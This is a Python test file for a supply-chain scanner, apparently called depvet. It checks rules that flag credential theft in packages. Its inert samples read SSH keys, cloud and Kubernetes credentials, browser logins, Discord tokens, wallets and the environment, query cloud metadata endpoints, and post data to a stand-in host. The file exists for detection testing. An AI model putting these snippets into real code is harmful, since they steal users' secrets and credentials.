"""Credentials family: secret stores that reach a read, the environment, cloud metadata.

Every sample is inert text; nothing here is imported or run.
"""

from __future__ import annotations

import ast

import pytest

from depvet.analysis.detector import ArtifactIndex, Cap, Mark
from depvet.analysis.detectors.credentials import classify_path
from depvet.analysis.engine import ArtifactScan, Ruleset
from depvet.model import ArtifactKind, FileEntry, RunContext, Severity
from tests.conftest import ScanFiles, rule_ids

SETUP_HEAD = "import os, glob, shutil, sqlite3, subprocess, json\nfrom setuptools import setup\n"

# (rule, files) that must trigger the rule.
MUST_TRIGGER: list[tuple[str, dict[str, str]]] = [
    (
        "DV301",
        {
            "sshx/__init__.py": (
                "import requests\nfrom pathlib import Path\n"
                "key = (Path.home() / '.ssh' / 'id_ed25519').read_bytes()\n"
            )
        },
    ),
    (
        "DV301",
        {
            "setup.py": SETUP_HEAD
            + "for root, dirs, files in os.walk(os.path.expanduser('~/.ssh')):\n    pass\nsetup(name='x')\n"
        },
    ),
    (
        "DV301",
        {
            "setup.py": SETUP_HEAD
            + "def grab(p):\n    with open(p) as f:\n        return f.read()\n"
            + "KEY = grab(os.path.expanduser('~/.ssh/id_rsa'))\nsetup(name='x')\n"
        },
    ),
    ("DV301", {"setup.py": SETUP_HEAD + "os.system('cat ~/.ssh/id_rsa | base64')\nsetup(name='x')\n"}),
    (
        "DV301",
        {"setup.py": SETUP_HEAD + "keys = [open(k).read() for k in glob.glob('/etc/ssh/ssh_host_*_key')]\n"},
    ),
    (
        "DV302",
        {
            "setup.py": SETUP_HEAD
            + "import configparser\ncfg = configparser.ConfigParser()\n"
            + "cfg.read(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))\nsetup(name='x')\n"
        },
    ),
    (
        "DV302",
        {
            "setup.py": SETUP_HEAD
            + "ADC = '~/.config/gcloud/application_default_credentials.json'\n"
            + "creds = json.load(open(os.path.expanduser(ADC)))\nsetup(name='x')\n"
        },
    ),
    (
        "DV302",
        {"setup.py": SETUP_HEAD + "azure = os.listdir(os.path.expanduser('~/.azure'))\nsetup(name='x')\n"},
    ),
    (
        "DV303",
        {
            "setup.py": SETUP_HEAD
            + "cfg = open(os.path.expanduser('~/.kube/config')).read()\nsetup(name='x')\n"
        },
    ),
    (
        "DV303",
        {"setup.py": SETUP_HEAD + "admin = open('/etc/kubernetes/admin.conf').read()\nsetup(name='x')\n"},
    ),
    ("DV304", {"setup.py": SETUP_HEAD + "import netrc\nauth = netrc.netrc()\nsetup(name='x')\n"}),
    (
        "DV304",
        {
            "gitx/__init__.py": (
                "import os, requests\nHOME = os.path.expanduser('~')\n"
                "CREDS = open(HOME + '/.git-credentials').read()\n"
            )
        },
    ),
    (
        "DV304",
        {
            "setup.py": SETUP_HEAD
            + "docker = json.load(open(os.path.expanduser('~/.docker/config.json')))\nsetup(name='x')\n"
        },
    ),
    (
        "DV305",
        {
            "envx/__init__.py": (
                "import requests\nfrom pathlib import Path\n"
                "for name in ('.env', '.env.production'):\n    data = Path(name).read_text()\n"
                "    requests.post('https://e.invalid', data=data)\n"
            )
        },
    ),
    (
        "DV306",
        {
            "setup.py": SETUP_HEAD
            + "for profile in glob.glob(os.path.expanduser('~/.mozilla/firefox/*')):\n"
            + "    logins = open(os.path.join(profile, 'logins.json')).read()\nsetup(name='x')\n"
        },
    ),
    (
        "DV306",
        {
            "setup.py": SETUP_HEAD
            + "state = os.path.join(os.environ['LOCALAPPDATA'], r'Google\\Chrome\\User Data\\Local State')\n"
            + "key = json.loads(open(state).read())['os_crypt']['encrypted_key']\nsetup(name='x')\n"
        },
    ),
    (
        "DV307",
        {
            "setup.py": SETUP_HEAD
            + "shutil.copytree(os.getenv('APPDATA') + '/Telegram Desktop/tdata', 'tg')\nsetup(name='x')\n"
        },
    ),
    (
        "DV307",
        {
            "stealer/__init__.py": (
                "import os, threading, requests\nroaming = os.getenv('APPDATA')\n"
                "paths = [[f'{roaming}/Discord', '/Local Storage/leveldb'],\n"
                "         [f'{roaming}/discordcanary', '/Local Storage/leveldb']]\n"
                "def grab(path, arg):\n    for name in os.listdir(path + arg):\n"
                "        print(open(f'{path}{arg}/{name}', errors='ignore').read())\n"
                "for patt in paths:\n    threading.Thread(target=grab, args=[patt[0], patt[1]]).start()\n"
            )
        },
    ),
    (
        "DV308",
        {
            "setup.py": SETUP_HEAD
            + "ext = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default',\n"
            + "    'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn')\n"
            + "files = os.listdir(ext)\nsetup(name='x')\n"
        },
    ),
    (
        "DV308",
        {"setup.py": SETUP_HEAD + "w = glob.glob(os.path.expanduser('~/**/wallet.dat'))\nsetup(name='x')\n"},
    ),
    (
        "DV308",
        {
            "setup.py": SETUP_HEAD
            + "k = open(os.path.expanduser('~/.config/solana/id.json')).read()\nsetup(name='x')\n"
        },
    ),
    (
        "DV309",
        {
            "envy/__init__.py": (
                "import os, requests\n"
                "requests.post('https://e.invalid', data={k: v for k, v in os.environ.items()})\n"
            )
        },
    ),
    ("DV309", {"envy/__init__.py": "import os, requests\nsnap = {**os.environ}\n"}),
    ("DV309", {"envy/__init__.py": "import os, requests\nfor k in os.environ:\n    print(k)\n"}),
    (
        "DV310",
        {
            "gcpx/__init__.py": (
                "import urllib.request\n"
                "URL = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'\n"
                "req = urllib.request.Request(URL, headers={'Metadata-Flavor': 'Google'})\n"
                "TOKEN = urllib.request.urlopen(req).read()\n"
            )
        },
    ),
    (
        "DV310",
        {
            "ecsx/__init__.py": (
                "import os, requests\n"
                "uri = os.environ['AWS_CONTAINER_CREDENTIALS_RELATIVE_URI']\n"
                "creds = requests.get('http://169.254.170.2' + uri)\n"
            )
        },
    ),
    (
        "DV310",
        {
            "setup.py": SETUP_HEAD
            + "os.system('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n"
        },
    ),
    (
        "DV311",
        {
            "regionx/__init__.py": (
                "import requests\n"
                "REGION = requests.get('http://169.254.169.254/latest/meta-data/placement/region').text\n"
            )
        },
    ),
    (
        "DV312",
        {
            "stealer/__init__.py": (
                "import os, shutil, sqlite3, requests\nlocal = os.getenv('LOCALAPPDATA')\n"
                "shutil.copy(local + '/Google/Chrome/User Data/Default/Login Data', 'l.db')\n"
                "tokens = os.listdir(os.getenv('APPDATA') + '/discord/Local Storage/leveldb')\n"
                "wallets = os.listdir(os.getenv('APPDATA') + '/Exodus/exodus.wallet')\n"
            )
        },
    ),
    (
        "DV306",
        {"scripts/steal.sh": '#!/bin/sh\ncp "$HOME/.config/google-chrome/Default/Login Data" /tmp/x\n'},
    ),
    (
        "DV307",
        {"run.ps1": 'Get-ChildItem "$env:APPDATA\\discord\\Local Storage\\leveldb" | Get-Content\n'},
    ),
    ("DV301", {"grab.bat": "type %USERPROFILE%\\.ssh\\id_rsa > out.txt\n"}),
]

# (rule, files) benign look-alikes that must not trigger the rule.
MUST_NOT_TRIGGER: list[tuple[str, dict[str, str]]] = [
    ("DV301", {"setup.py": SETUP_HEAD + "pub = open(os.path.expanduser('~/.ssh/id_rsa.pub')).read()\n"}),
    ("DV301", {"setup.py": SETUP_HEAD + "cfg = open(os.path.expanduser('~/.ssh/config')).read()\n"}),
    (
        "DV301",
        {
            "setup.py": SETUP_HEAD
            + "def log(msg):\n    with open('install.log', 'a') as f:\n        f.write(msg)\n"
            + "log('could not read ~/.ssh/id_rsa')\nsetup(name='x')\n"
        },
    ),
    (
        "DV301",
        {
            "setup.py": SETUP_HEAD
            + "subprocess.call(['ssh-keygen', '-f', os.path.expanduser('~/.ssh/id_rsa')])\n"
        },
    ),
    (
        "DV301",
        {
            "sshx/__init__.py": (
                "import os, subprocess\n\ndef authorize(key):\n"
                "    with open(os.path.expanduser('~/.ssh/id_rsa'), 'w') as f:\n        f.write(key)\n"
            )
        },
    ),
    ("DV302", {"setup.py": SETUP_HEAD + "models = os.listdir(os.path.expanduser('~/.aws/models'))\n"}),
    (
        "DV302",
        {"setup.py": SETUP_HEAD + "raise SystemExit('put your keys into ~/.aws/credentials first')\n"},
    ),
    ("DV303", {"setup.py": SETUP_HEAD + "c = os.listdir(os.path.expanduser('~/.kube/cache'))\n"}),
    ("DV304", {"setup.py": SETUP_HEAD + "open(os.path.expanduser('~/.pypirc'), 'w').write('[pypi]')\n"}),
    ("DV304", {"setup.py": SETUP_HEAD + "sample = open('.netrc.example').read()\n"}),
    ("DV305", {"setup.py": SETUP_HEAD + "subprocess.check_call(['python', '-m', 'venv', '.env'])\n"}),
    ("DV305", {"setup.py": SETUP_HEAD + "act = open('.env/bin/activate').read()\n"}),
    ("DV305", {"setup.py": SETUP_HEAD + "tmpl = open('.env.template').read()\n"}),
    ("DV306", {"setup.py": SETUP_HEAD + "cookies = open('cookies.txt').read()\n"}),
    (
        "DV306",
        {"setup.py": SETUP_HEAD + "driver = os.listdir('/opt/chromium/chromedriver')\n"},
    ),
    (
        "DV307",
        {
            "botx/__init__.py": (
                "import os, requests\nCONFIG = open(os.path.join('discord_bot', 'config.json')).read()\n"
                "API = 'https://discord.com/api/v10'\n"
            )
        },
    ),
    ("DV308", {"setup.py": SETUP_HEAD + "cfg = open('wallet_config.json').read()\n"}),
    (
        "DV309",
        {
            "envy/__init__.py": (
                "import os, subprocess\nenv = dict(os.environ)\nenv['PATH'] = '/usr/bin'\n"
                "subprocess.run(['make'], env=env)\n"
            )
        },
    ),
    ("DV309", {"envy/__init__.py": "import os, requests\nTOKEN = os.environ.get('TOKEN')\n"}),
    ("DV309", {"envy/__init__.py": "import os, subprocess\nsubprocess.run(['ls'], env=os.environ)\n"}),
    (
        "DV310",
        {
            "netx/__init__.py": (
                "import requests\nBLOCKED = {'169.254.169.254', 'metadata.google.internal'}\n\n"
                "def fetch(url):\n    if any(b in url for b in BLOCKED):\n        raise ValueError(url)\n"
                "    return requests.get(url)\n"
            )
        },
    ),
    (
        "DV311",
        {
            "netx/__init__.py": (
                "import requests\n# IMDS lives at http://169.254.169.254/latest/meta-data/\n"
                "requests.post('https://api.example.org/v1/items', json={'metadata': {'a': 1}})\n"
            )
        },
    ),
    (
        "DV312",
        {
            "setup.py": SETUP_HEAD
            + "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            + "aws = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        },
    ),
    (
        "DV307",
        {"scripts/doc.sh": "#!/bin/sh\n# cat discord/Local Storage/leveldb is what stealers do\necho ok\n"},
    ),
]


@pytest.mark.parametrize(
    ("rule_id", "files"), MUST_TRIGGER, ids=[f"{r}-{i}" for i, (r, _) in enumerate(MUST_TRIGGER)]
)
def test_must_trigger(rule_id: str, files: dict[str, str], scan_files: ScanFiles) -> None:
    result = scan_files(files)
    assert rule_id in rule_ids(result), [f"{f.rule_id} {f.evidence}" for f in result.findings]


@pytest.mark.parametrize(
    ("rule_id", "files"), MUST_NOT_TRIGGER, ids=[f"{r}-{i}" for i, (r, _) in enumerate(MUST_NOT_TRIGGER)]
)
def test_benign_look_alike(rule_id: str, files: dict[str, str], scan_files: ScanFiles) -> None:
    result = scan_files(files)
    assert rule_id not in rule_ids(result), [f"{f.rule_id} {f.evidence}" for f in result.findings]


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("~/.ssh/id_rsa", "ssh"),
        ("C:\\Users\\x\\.ssh\\id_ecdsa", "ssh"),
        ("~/.ssh/\x00", "ssh"),
        ("~/.ssh/known_hosts", None),
        ("~/.aws/credentials", "cloud"),
        ("https://docs.aws.amazon.com/cli/", None),
        ("/var/run/secrets/kubernetes.io/serviceaccount/token", "kube"),
        ("/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", None),
        ("%APPDATA%/discordptb/Local Storage/leveldb", "token-store"),
        ("%LOCALAPPDATA%/BraveSoftware/Brave-Browser/User Data/Default/Network/Cookies", "browser"),
        ("~/.env.local", "dotenv"),
        ("os.environ", None),
        ("~/.env.example", None),
        ("/srv/app/.pgpass", "token-file"),
    ],
)
def test_classify_path(path: str, kind: str | None) -> None:
    found = classify_path(path)
    assert (found.key if found else None) == kind


def test_called_library_function_is_not_high(scan_files: ScanFiles) -> None:
    # What an SSH client does inside a connect function: one level below the install-time rule.
    code = (
        "import os, socket\n\ndef load_default_key():\n"
        "    path = os.path.expanduser('~/.ssh/id_rsa')\n    with open(path) as f:\n        return f.read()\n"
    )
    result = scan_files({"sshlib/client.py": code})
    found = [f for f in result.findings if f.rule_id == "DV301"]
    assert found
    assert all(f.severity is Severity.MEDIUM for f in found)


def test_benign_sdk_credentials_stay_below_high(scan_files: ScanFiles) -> None:
    files = {
        "cloudsdk/credentials.py": (
            "import configparser, os, requests\n\ndef load_profile(name='default'):\n"
            "    cfg = configparser.ConfigParser()\n    cfg.read(os.path.expanduser('~/.aws/credentials'))\n"
            "    return cfg[name]['aws_access_key_id'], cfg[name]['aws_secret_access_key']\n\n"
            "def call(url):\n    key, secret = load_profile()\n"
            "    return requests.post(url, headers={'X-Key-Id': key})\n"
        ),
    }
    result = scan_files(files)
    assert "DV302" in rule_ids(result)
    assert all(f.severity.rank < Severity.HIGH.rank for f in result.findings if f.rule_id.startswith("DV3"))


# -- marks -------------------------------------------------------------------------------------


def _marks(ruleset: Ruleset, path: str, code: str) -> list[Mark]:
    scan = ArtifactScan(ruleset, ArtifactIndex(ArtifactKind.DIRECTORY, None, None))
    scan.scan_file(FileEntry(path, code.encode()))
    return scan.marks


def test_secret_read_mark_is_on_the_data_expression(ruleset: Ruleset) -> None:
    code = SETUP_HEAD + "data = open(os.path.expanduser('~/.aws/credentials')).read()\nsetup(name='x')\n"
    marks = [m for m in _marks(ruleset, "setup.py", code) if m.cap is Cap.SECRET_READ]
    assert len(marks) == 1
    node = marks[0].node
    assert isinstance(node, ast.Call)
    assert isinstance(node.func, ast.Attribute)
    assert node.func.attr == "read"
    assert marks[0].context is RunContext.INSTALL
    assert "cloud credentials" in marks[0].detail


def test_secret_read_mark_through_a_variable(ruleset: Ruleset) -> None:
    code = (
        "import os, requests\nKEY_DIR = os.path.join(os.path.expanduser('~'), '.ssh')\n"
        "target = os.path.join(KEY_DIR, 'id_rsa')\nwith open(target) as handle:\n    key = handle.read()\n"
    )
    marks = [m for m in _marks(ruleset, "pkg/__init__.py", code) if m.cap is Cap.SECRET_READ]
    assert len(marks) == 1
    node = marks[0].node
    assert isinstance(node, ast.Call)
    assert isinstance(node.func, ast.Name)
    assert node.func.id == "open"
    assert marks[0].context is RunContext.IMPORT


def test_copy_then_query_marks_both(ruleset: Ruleset) -> None:
    code = (
        "import os, shutil, sqlite3, requests\n"
        "src = os.path.expanduser('~/.config/google-chrome/Default/Login Data')\n"
        "shutil.copy(src, 'tmp.db')\ntmp = 'tmp.db'\nshutil.copy2(src, tmp)\n"
        "rows = sqlite3.connect(tmp).execute('select 1').fetchall()\n"
    )
    marks = [m for m in _marks(ruleset, "pkg/__init__.py", code) if m.cap is Cap.SECRET_READ]
    names = {ast.unparse(m.node.func) for m in marks if isinstance(m.node, ast.Call)}
    assert {"shutil.copy", "shutil.copy2", "sqlite3.connect"} <= names


def test_env_bulk_mark(ruleset: Ruleset) -> None:
    code = "import os, json, requests\npayload = json.dumps(dict(os.environ))\n"
    marks = [m for m in _marks(ruleset, "pkg/__init__.py", code) if m.cap is Cap.ENV_BULK]
    assert marks
    node = marks[0].node
    assert isinstance(node, ast.Call)
    assert ast.unparse(node) == "dict(os.environ)"


def test_env_copy_for_subprocess_is_not_marked(ruleset: Ruleset) -> None:
    code = (
        "import os, subprocess\nenv = os.environ.copy()\nenv['X'] = '1'\nsubprocess.run(['true'], env=env)\n"
    )
    assert not [m for m in _marks(ruleset, "pkg/__init__.py", code) if m.cap is Cap.ENV_BULK]


def test_metadata_mark_is_on_the_request(ruleset: Ruleset) -> None:
    code = (
        "import requests\nbase = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
        "role = requests.get(base).text\n"
    )
    marks = [m for m in _marks(ruleset, "pkg/__init__.py", code) if m.cap is Cap.SECRET_READ]
    assert len(marks) == 1
    node = marks[0].node
    assert isinstance(node, ast.Call)
    assert ast.unparse(node) == "requests.get(base)"


def test_docstring_and_defaults_table_are_not_reads(ruleset: Ruleset) -> None:
    code = (
        "'''Reads ~/.ssh/id_rsa and ~/.aws/credentials.'''\nimport os, requests\n"
        "LOCATIONS = {'ssh': '~/.ssh/id_rsa', 'aws': '~/.aws/credentials'}\n"
        "def where(kind):\n    return os.path.expanduser(LOCATIONS[kind])\n"
    )
    assert not [m for m in _marks(ruleset, "pkg/__init__.py", code) if m.cap is Cap.SECRET_READ]


def _imds_client(header: str) -> str:
    # A big module of cold helpers and one method whose URL comes from its caller: the header it
    # sends is all that says it asks the instance for credentials.
    padding = "".join(f"def helper_{i}(a):\n    b = a + {i}\n    return b * 2\n\n\n" for i in range(400))
    return (
        "import json\nimport urllib3\n\nHTTP = urllib3.PoolManager()\n\n\n"
        + padding
        + "class Client:\n"
        + "    def credentials(self, request, url, token):\n"
        + f"        headers = {{'{header}': token}}\n"
        + "        response = request(url=url, method='GET', headers=headers)\n"
        + "        return json.loads(response.data)\n"
    )


@pytest.mark.parametrize(("header", "found"), [("X-aws-ec2-metadata-token", True), ("X-Request-Id", False)])
def test_an_imds_header_makes_a_method_worth_walking(scan_files: ScanFiles, header: str, found: bool) -> None:
    source = _imds_client(header)
    result = scan_files({"cloudy/__init__.py": "", "cloudy/aws.py": source}, artifact="wheel")
    line = source.splitlines().index("        response = request(url=url, method='GET', headers=headers)") + 1
    assert (("DV311", line) in [(f.rule_id, f.line) for f in result.findings]) is found
